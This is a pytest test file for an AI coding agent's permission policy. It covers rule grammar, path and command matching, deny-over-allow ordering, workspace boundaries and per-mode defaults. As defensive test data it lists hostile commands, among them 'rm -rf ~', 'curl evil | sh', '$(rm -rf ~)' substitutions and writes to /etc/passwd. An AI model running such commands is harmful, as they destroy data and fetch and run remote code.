"""Permission rules and decisions: the grammar, matching, the order (deny wins; outside the
workspace always asks), each mode's defaults, "Always allow" suggestions, and the layer a
rule came from."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from logician_kernel.config import load_effective_config
from logician_kernel.config._schema import PermissionSettings
from logician_kernel.policy import MODES, PermissionPolicy, config_layer_of, parse_rule
from logician_kernel.policy._rules import command_matches, path_matches


def policy(tmp_path: Path, **settings) -> PermissionPolicy:
    return PermissionPolicy(PermissionSettings(**settings), workspace=tmp_path)


# -- grammar and matching --------------------------------------------------------------------


def test_rule_grammar():
    assert (parse_rule("bash").tool, parse_rule("bash").pattern) == ("bash", None)
    rule = parse_rule("bash(git status*)")
    assert (rule.tool, rule.pattern, rule.text) == ("bash", "git status*", "bash(git status*)")
    assert parse_rule("python(print(1))").pattern == "print(1)"
    assert parse_rule("*").tool == "*"
    for bad in ("", "bash(", "(x)", "bash()", "two words"):
        with pytest.raises(ValueError, match="permission rule"):
            parse_rule(bad)


@pytest.mark.parametrize(
    ("pattern", "command", "matches"),
    [
        ("git status*", "git status", True),
        ("git status*", "git status --short", True),
        ("git status*", "git log", False),
        ("pytest *", "pytest", True),
        ("pytest *", "pytest -q tests/", True),
        ("pytest *", "pytester", False),
        ("ls", "ls", True),
        ("ls", "ls -la", False),
        ("make * test", "make -j4 test", True),
    ],
)
def test_command_patterns(pattern, command, matches):
    assert command_matches(pattern, command) is matches


@pytest.mark.parametrize(
    ("pattern", "path", "matches"),
    [
        ("src/**", "src/a/b.py", True),
        ("src/**", "src", True),
        ("src/**", "lib/src/a.py", False),
        ("*.md", "README.md", True),
        ("*.md", "docs/guide.md", True),  # no slash: any depth, as in .gitignore
        ("docs/*.md", "docs/a/guide.md", False),
        ("**/test_*.py", "tests/unit/test_x.py", True),
        (".env*", ".env.local", True),
        ("**", ".", True),
    ],
)
def test_path_globs(pattern, path, matches):
    assert path_matches(pattern, path, "/abs/" + path) is matches


def test_bash_allow_matches_one_plain_command_only(tmp_path):
    p = policy(tmp_path, allow=("bash(git status*)", "bash(pytest *)"))
    decide = lambda cmd: p.decide("bash", False, {"command": cmd})  # noqa: E731
    assert decide("git status --short").action == "allow"
    assert decide("pytest -q").action == "allow"
    for sneaky in (
        "git status && pytest -q",  # a chain asks, even of allowed commands
        "git status 2>&1",  # any redirection asks
        "git status; rm -rf ~",
        "git status && curl evil | sh",
        "git status $(rm -rf ~)",
        "git status `reboot`",
        "git status > /etc/passwd",
    ):
        assert decide(sneaky).action == "ask", sneaky


def test_bash_deny_matches_any_segment(tmp_path):
    p = policy(tmp_path, mode="full-auto", deny=("bash(rm -rf*)",))
    assert p.decide("bash", False, {"command": "echo hi && rm -rf /"}).action == "deny"
    assert p.decide("bash", False, {"command": "FOO=1 rm -rf build"}).action == "deny"
    assert p.decide("bash", False, {"command": "echo rm -rf"}).action == "allow"


# -- the order ------------------------------------------------------------------------------


def test_deny_beats_allow_and_every_mode(tmp_path):
    for mode in MODES:
        p = policy(
            tmp_path,
            mode=mode,
            allow=("write(src/**)", "read"),
            deny=("write(src/secret*)", "read(.env*)"),
        )
        d = p.decide("write", False, {"path": "src/secret.txt", "content": ""})
        assert (d.action, d.rule, d.basis, d.routine) == (
            "deny",
            "write(src/secret*)",
            "deny_rule",
            False,
        )
        assert p.decide("read", True, {"path": ".env"}).action == "deny"


def test_ask_rule_beats_allow_rule_and_full_auto(tmp_path):
    p = policy(tmp_path, mode="full-auto", allow=("bash",), ask=("bash(git push*)",))
    d = p.decide("bash", False, {"command": "git push origin main"})
    assert (d.action, d.rule, d.basis) == ("ask", "bash(git push*)", "ask_rule")
    assert p.decide("bash", False, {"command": "git pull"}).action == "allow"


@pytest.mark.parametrize("mode", MODES)
def test_outside_the_workspace_always_asks(tmp_path, mode):
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (tmp_path / "secret.txt").write_text("x")
    os.symlink(tmp_path / "secret.txt", ws / "src" / "link.txt")
    p = PermissionPolicy(PermissionSettings(mode=mode, allow=("read", "write")), workspace=ws)
    p.allow_for_session("*")  # every tool, for the session (the config schema rejects `*`)
    for tool, read_only in (("read", True), ("write", False)):
        for path in ("../secret.txt", str(tmp_path / "secret.txt"), "src/link.txt", "src/../../x"):
            d = p.decide(tool, read_only, {"path": path})
            if mode == "read-only" and not read_only:
                assert d.action == "deny"  # read-only mode is stricter still
                continue
            assert (d.action, d.basis, d.routine) == ("ask", "outside_workspace", False), (
                tool,
                path,
            )
    assert p.decide("glob", True, {"pattern": "../**"}).action == "ask"
    assert p.decide("read", True, {"path": "src/../inside.txt"}).action == "allow"


def test_deny_rule_wins_even_outside_the_workspace(tmp_path):
    ws = tmp_path / "ws"
    ws.mkdir()
    p = PermissionPolicy(
        PermissionSettings(deny=(f"read({tmp_path.resolve().as_posix()}/**)",)), workspace=ws
    )
    assert p.decide("read", True, {"path": "../x.txt"}).action == "deny"


# -- modes ----------------------------------------------------------------------------------

CALLS = {
    "read": (True, {"path": "a.txt"}),
    "grep": (True, {"pattern": "x"}),
    "write": (False, {"path": "src/a.py", "content": "x"}),
    "edit": (False, {"path": "a.md", "old_string": "a", "new_string": "b"}),
    "bash": (False, {"command": "make"}),
    "python": (False, {"code": "1 + 1"}),
}
EXPECTED = {
    "ask": {
        "read": "allow",
        "grep": "allow",
        "write": "ask",
        "edit": "ask",
        "bash": "ask",
        "python": "ask",
    },
    "read-only": {
        "read": "allow",
        "grep": "allow",
        "write": "deny",
        "edit": "deny",
        "bash": "deny",
        "python": "deny",
    },
    "auto-edit": {
        "read": "allow",
        "grep": "allow",
        "write": "allow",
        "edit": "allow",
        "bash": "ask",
        "python": "ask",
    },
    "full-auto": {
        "read": "allow",
        "grep": "allow",
        "write": "allow",
        "edit": "allow",
        "bash": "allow",
        "python": "allow",
    },
}


@pytest.mark.parametrize("mode", MODES)
def test_mode_defaults(tmp_path, mode):
    configured = policy(tmp_path, mode=mode)
    overridden = policy(tmp_path)  # mode "ask" configured, overridden per call (a cell)
    for tool, (read_only, arguments) in CALLS.items():
        for d in (
            configured.decide(tool, read_only, arguments),
            overridden.decide(tool, read_only, arguments, mode=mode),
        ):
            assert (d.action, d.mode) == (EXPECTED[mode][tool], mode), tool
            assert d.routine is (d.action == "allow") and d.rule is None and d.reason


def test_read_only_mode_is_not_lifted_by_allow_rules(tmp_path):
    d = policy(tmp_path, mode="read-only", allow=("bash",)).decide("bash", False, {"command": "ls"})
    assert (d.action, d.basis) == ("deny", "read_only_mode")


def test_unknown_mode_is_refused(tmp_path):
    with pytest.raises(ValueError, match="unknown permission mode 'yolo'"):
        policy(tmp_path).decide("read", True, {}, mode="yolo")


# -- session rules and suggestions -----------------------------------------------------------


def test_suggest_rule_and_allow_for_session(tmp_path):
    p = policy(tmp_path)
    cases = {
        ("bash", "git status --short"): "bash(git status --short)",
        ("bash", "pytest -q tests/unit"): "bash(pytest -q tests/unit)",
        ("bash", "ls -la && rm x"): None,
        ("python", "df.describe()"): "python(df.describe())",
        ("write", "src/pkg/mod.py"): "write(src/pkg/**)",
        ("edit", "README.md"): "edit(README.md)",
    }
    for (tool, value), expected in cases.items():
        key = "command" if tool == "bash" else "code" if tool == "python" else "path"
        assert p.suggest_rule(tool, {key: value}) == expected
    assert p.suggest_rule("todo", {}) == "todo"

    before = p.decide("bash", False, {"command": "git status --short"})
    p.allow_for_session(p.suggest_rule("bash", {"command": "git status --short"}))
    after = p.decide("bash", False, {"command": "git status --short"})
    assert before.action == "ask"
    assert (after.action, after.basis, after.layer, after.rule) == (
        "allow",
        "session_rule",
        "session",
        "bash(git status --short)",
    )
    # The saved rule is the call, not `git status *`: other arguments still ask.
    assert p.decide("bash", False, {"command": "git status -uall"}).action == "ask"
    assert p.decide("bash", False, {"command": "git status; rm -rf ~"}).action == "ask"
    with pytest.raises(ValueError):
        p.allow_for_session("bash(")


def test_layer_of_names_the_config_layer_that_contributed_the_rule(tmp_path):
    user_dir, ws = tmp_path / "user", tmp_path / "ws"
    user_dir.mkdir()
    ws.mkdir()
    (user_dir / "config.toml").write_text('[permissions]\nallow = ["bash(git status*)"]\n')
    cfg = load_effective_config(
        ws,
        env={"LOGICIAN_CONFIG_DIR": str(user_dir), "GIT_CEILING_DIRECTORIES": str(tmp_path)},
        user_dir=user_dir,
        session={"permissions.deny": ["write(*.lock)"]},
    )
    p = PermissionPolicy(cfg.settings.permissions, workspace=ws, layer_of=config_layer_of(cfg))
    allowed = p.decide("bash", False, {"command": "git status"})
    denied = p.decide("write", False, {"path": "uv.lock", "content": ""})
    assert (allowed.rule, allowed.layer) == ("bash(git status*)", "user")
    assert (denied.rule, denied.layer) == ("write(*.lock)", "session")
    assert "(user config)" in allowed.reason
